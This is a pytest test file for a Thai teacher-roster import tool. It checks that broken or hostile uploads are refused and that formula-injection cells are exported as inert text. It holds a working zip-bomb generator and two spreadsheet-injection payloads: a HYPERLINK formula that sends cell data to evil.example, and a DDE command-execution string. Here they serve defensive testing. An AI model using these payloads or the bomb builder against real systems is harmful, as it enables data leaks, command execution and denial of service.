"""Files that are broken, malicious or tricky: refused clearly, or imported safely as text.

data/password_protected.xlsx is a real encrypted workbook (a one-row roster, password
"ลับมาก-2568") made once with msoffcrypto-tool's OOXMLFile.encrypt; that tool is not a
dependency of the app or of its tests.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from helpers import count
from sqlalchemy import func, select

import importers.reading
from importers import Limits, ReadError, import_file
from importers.reading import read_sheets
from models import Teacher, db

DATA = Path(__file__).parent / "data"
SAMPLES = DATA / "samples"
NID_HEADER = "เลขประจำตัวประชาชน"
ROSTER_HEADERS = (NID_HEADER, "คำนำหน้า", "ชื่อ", "นามสกุล", "สถานศึกษา")
NID = "3879217421801"
# What formula_injection.xlsx holds: a first name and a last name that are formulas.
INJECTED = {
    "3879217421801": ("first_name", '=HYPERLINK("http://evil.example/?"&A2,"คลิก")'),
    "3017468145380": ("last_name", "+cmd|' /C calc'!A0"),
}
FORMULA_STARTS = ("=", "+", "-", "@")
ERROR_KEYS = {"kind", "file", "error", "written"}
MEGABYTE = 1 << 20


# --------------------------------------------------------------------------- building files


def roster_xlsx(rows, formulas=()):
    """Write a teacher roster; None cells stay empty, formulas are (row, col, formula, value)."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("ครู")
    for col, header in enumerate(ROSTER_HEADERS):
        sheet.write_string(0, col, header)
    for number, row in enumerate(rows, start=1):
        for col, value in enumerate(row):
            if value is not None:
                sheet.write_string(number, col, value)
    for row, col, formula, value in formulas:
        sheet.write_formula(row, col, formula, None, value)
    book.close()
    return buffer.getvalue()


def deflate(raw):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(raw) + compressor.flush(), zlib.crc32(raw), len(raw)


def deflate_padded(head, padding, tail):
    """Raw-deflate head + padding MB of spaces + tail without compressing every megabyte.

    A full flush resets the compressor, so every megabyte compresses to the same bytes:
    a 300 MB part takes milliseconds to build. Returns (deflated, crc32, size).
    """
    block = b" " * MEGABYTE
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(padding):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return start + piece * padding + end, crc, len(head) + len(block) * padding + len(tail)


def write_zip(entries):
    """Write a zip of (name, deflated bytes, crc32, the unpacked size its headers declare)."""
    out = io.BytesIO()
    directory = io.BytesIO()
    for name, data, crc, size in entries:
        encoded = name.encode()
        offset = out.tell()
        fields = (8, 0, 0x21, crc, len(data), size, len(encoded))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, *fields, 0) + encoded + data)
        directory.write(
            struct.pack("<IHHH", 0x02014B50, 20, 20, 0)
            + struct.pack("<HHHIIIH", *fields)
            + struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset)
            + encoded
        )
    start, listing = out.tell(), directory.getvalue()
    out.write(listing)
    out.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(listing), start, 0
        )
    )
    return out.getvalue()


@functools.cache
def zip_bomb(megabytes=300, declared_size=None):
    """A real roster .xlsx whose sheet XML is padded with megabytes of spaces.

    With declared_size its headers lie about how large the sheet unpacks.
    """
    source = zipfile.ZipFile(io.BytesIO(roster_xlsx([[NID, "นาย", "ศานนท์", "ใจดี", "C5201"]])))
    entries = []
    for info in source.infolist():
        raw = source.read(info.filename)
        if info.filename == "xl/worksheets/sheet1.xml":
            cut = raw.index(b"<sheetData>") + len(b"<sheetData>")
            data, crc, size = deflate_padded(raw[:cut], megabytes, raw[cut:])
            size = size if declared_size is None else declared_size
        else:
            data, crc, size = deflate(raw)
        entries.append((info.filename, data, crc, size))
    return write_zip(entries)


def sample(name):
    return (SAMPLES / name).read_bytes()


# A hostile file: its name, how to build its bytes, a size limit (or None), words its error holds.
HOSTILE = {
    "png renamed .xlsx": (
        "not_a_workbook.xlsx",
        lambda: sample("not_a_workbook.xlsx"),
        None,
        "ไม่ใช่ไฟล์ตารางข้อมูล",
    ),
    "header only": (
        "header_only.xlsx",
        lambda: sample("header_only.xlsx"),
        None,
        "ไม่มีข้อมูลให้นำเข้า",
    ),
    "no ID column": (
        "missing_id_column.xlsx",
        lambda: sample("missing_id_column.xlsx"),
        None,
        f'ไฟล์ไม่มีคอลัมน์ "{NID_HEADER}"',
    ),
    "password": (
        "password_protected.xlsx",
        lambda: (DATA / "password_protected.xlsx").read_bytes(),
        None,
        "ตั้งรหัสผ่านไว้",
    ),
    "over the size limit": (
        "teachers_roster.xlsx",
        lambda: sample("teachers_roster.xlsx"),
        4096,
        "เกินขนาดที่รับได้ (4.0 KB)",
    ),
    "zip bomb": ("bomb.xlsx", zip_bomb, None, "เมื่อแตกออกมีขนาดใหญ่ผิดปกติ (300 MB)"),
    "zip bomb lying about its size": (
        "bomb.xlsx",
        lambda: zip_bomb(declared_size=4096),
        None,
        "ไฟล์เสีย",
    ),
    "empty": ("roster.xlsx", lambda: b"", None, "ไฟล์ว่างเปล่า"),
    "truncated workbook": (
        "teachers_roster.xlsx",
        lambda: sample("teachers_roster.xlsx")[:5000],
        None,
        "ไฟล์เสีย",
    ),
    "binary as csv": ("roster.csv", lambda: bytes(range(256)) * 8, None, "ไม่ใช่ไฟล์ตารางข้อมูล"),
}


def row_counts(app):
    """Count the rows of every table: a refused file must leave each one as it was."""
    with app.app_context():
        return {
            table.name: db.session.scalar(select(func.count()).select_from(table))
            for table in db.metadata.sorted_tables
        }


# --------------------------------------------------------------------------- refused files


@pytest.mark.parametrize("case", HOSTILE)
def test_engine_refuses_with_a_clear_thai_message(app, reference, case):
    filename, build, max_bytes, words = HOSTILE[case]
    limits = Limits(max_bytes=max_bytes) if max_bytes else None
    before = row_counts(app)
    with app.app_context(), pytest.raises(ReadError) as refused:
        import_file("teachers", build(), filename, db.session, limits=limits)
    assert words in str(refused.value)
    assert row_counts(app) == before


@pytest.mark.parametrize("case", HOSTILE)
def test_command_refuses_with_exit_2(app, runner, reference, tmp_path, case):
    filename, build, max_bytes, words = HOSTILE[case]
    path = tmp_path / filename
    path.write_bytes(build())
    if max_bytes:
        app.config["IMPORT_MAX_BYTES"] = max_bytes
    before = row_counts(app)
    result = runner.invoke(args=["import", "teachers", str(path), "--json"])
    assert result.exit_code == 2, result.output
    data = json.loads(result.stdout)
    assert set(data) == ERROR_KEYS
    assert (data["kind"], data["file"], data["written"]) == ("teachers", str(path), False)
    assert words in data["error"]
    assert row_counts(app) == before


def test_the_zip_bomb_is_real_and_refused_without_unpacking(app, reference, monkeypatch):
    bomb = zip_bomb()
    assert len(bomb) < MEGABYTE
    assert (
        sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
        > 300 * MEGABYTE
    )
    # The same recipe, one megabyte deep, is a workbook that reads.
    small = read_sheets(zip_bomb(megabytes=1), "small.xlsx", Limits(max_ratio=10**6))
    assert small[0].rows[1][:2] == [NID, "นาย"]

    class Unopenable:
        @staticmethod
        def read_excel(source):
            raise AssertionError("the reader opened the zip bomb")

    monkeypatch.setattr(importers.reading, "fastexcel", Unopenable)
    with app.app_context(), pytest.raises(ReadError, match="ใหญ่ผิดปกติ"):
        import_file("teachers", bomb, "bomb.xlsx", db.session)


def test_the_password_check_reads_the_content_not_the_name(app, reference):
    content = (DATA / "password_protected.xlsx").read_bytes()
    assert content.startswith(bytes.fromhex("D0CF11E0A1B11AE1"))
    assert "EncryptedPackage".encode("utf-16-le") in content
    with app.app_context(), pytest.raises(ReadError, match="รหัสผ่าน"):
        import_file("teachers", content, "roster.xls", db.session)


# --------------------------------------------------------------------------- formulas


def test_formula_cells_import_their_computed_value_as_text(app, reference):
    content = roster_xlsx(
        [[None, "นาย", None, None, "C5201"]],
        formulas=[
            (1, 0, '=CONCATENATE("387921742","1801")', NID),
            (1, 2, '=CONCATENATE("สม","ชาย")', "สมชาย"),
            (1, 3, '="ใจ"&"ดี"', "ใจดี"),
        ],
    )
    with app.app_context():
        result = import_file("teachers", content, "formulas.xlsx", db.session)
        assert (result.count("new"), result.problems, result.written) == (1, [], True)
        teacher = db.session.scalar(select(Teacher).where(Teacher.national_id == NID))
        assert (teacher.first_name, teacher.last_name) == ("สมชาย", "ใจดี")


def test_formula_injection_is_stored_as_text_and_exported_inert(
    app, runner, reference, admin_client
):
    agencies = SAMPLES / "agencies.xlsx"
    assert (
        runner.invoke(args=["import", "agencies", str(agencies), "--skip-invalid"]).exit_code == 0
    )
    result = runner.invoke(
        args=["import", "teachers", str(SAMPLES / "formula_injection.xlsx"), "--json"]
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["created"] == 5
    with app.app_context():
        for nid, (field, text) in INJECTED.items():
            teacher = db.session.scalar(select(Teacher).where(Teacher.national_id == nid))
            assert getattr(teacher, field) == text

    response = admin_client.get("/admin/teacher/export/csv/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert len(rows) == 1 + count(app, Teacher)
    cells = [cell for row in rows[1:] for cell in row]
    for _field, text in INJECTED.values():
        assert "'" + text in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]

    response = admin_client.get("/admin/teacher/export/xlsx/")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    for _field, text in INJECTED.values():
        assert by_value["'" + text].data_type == "s"
